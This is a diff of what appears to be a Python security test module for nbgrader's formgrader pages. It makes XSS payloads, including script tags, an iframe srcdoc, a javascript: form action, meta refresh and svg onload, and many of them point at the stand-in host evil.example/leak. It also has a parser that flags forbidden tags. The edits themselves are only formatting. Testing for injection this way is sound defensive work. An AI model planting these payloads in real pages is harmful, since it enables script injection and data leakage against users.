@@ -1,4 +1,6 @@
-"""Payloads for pages, made by code, and the pages that they are meant for. Each is a way to run something, load something or take over a page."""
+"""Make payloads for pages, and the pages that they are meant for.
+
+Each payload is a way to run something, load something or take over a page."""
 
 import base64
 import copy
@@ -12,7 +14,10 @@ import nbgrader.server_extensions.formgrader.handlers as formgrader
 from nbconvert.exporters import HTMLExporter
 from traitlets.config import Config
 
-PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+PNG = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
+    "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
 EVIL = "https://evil.example/leak"
 CODE = "alert(document.domain)"
 
@@ -51,7 +56,10 @@ def html_payloads() -> list[str]:
         f'<iframe srcdoc="<script>{CODE}</script>"></iframe>',
         f'<object data="{EVIL}"></object>',
         f'<embed src="{EVIL}">',
-        f'<form action="{EVIL}"><input name=a autofocus><button formaction="javascript:{CODE}">go</button></form>',
+        (
+            f'<form action="{EVIL}"><input name=a autofocus><button '
+            f'formaction="javascript:{CODE}">go</button></form>'
+        ),
         f'<base href="{EVIL}/">',
         f'<meta http-equiv="refresh" content="0;url={EVIL}">',
         f'<link rel="stylesheet" href="{EVIL}.css">',
@@ -65,7 +73,8 @@ def html_payloads() -> list[str]:
         f'<audio src="{EVIL}.mp3" autoplay></audio>',
         f'<table background="{EVIL}.png"><tr><td>x</td></tr></table>',
         f'<div style="background:url({EVIL}.png)">x</div>',
-        f'<img src="data:image/svg+xml;base64,{base64.b64encode(b"<svg onload=alert(1)>").decode()}">',
+        '<img src="data:image/svg+xml;base64,'
+        f'{base64.b64encode(b"<svg onload=alert(1)>").decode()}">',
     ]
     odd = [
         f"<script>{CODE}</script>",
@@ -234,7 +243,7 @@ def _batches() -> list[list[dict[str, Any]]]:
     return [made[start : start + 40] for start in range(0, len(made), 40)]
 
 
-# -- the parser that looks at a page -------------------------------------------------------------------------
+# -- the parser that looks at a page ---------------------------------------------------------------
 
 FORBIDDEN = {
     "script",
@@ -296,7 +305,7 @@ class Danger(HTMLParser):
                 self.found.append((tag, name, text[:80]))
 
 
-# -- nbgrader's own pages -------------------------------------------------------------------------------------
+# -- nbgrader's own pages --------------------------------------------------------------------------
 
 
 def page_of(made, template):
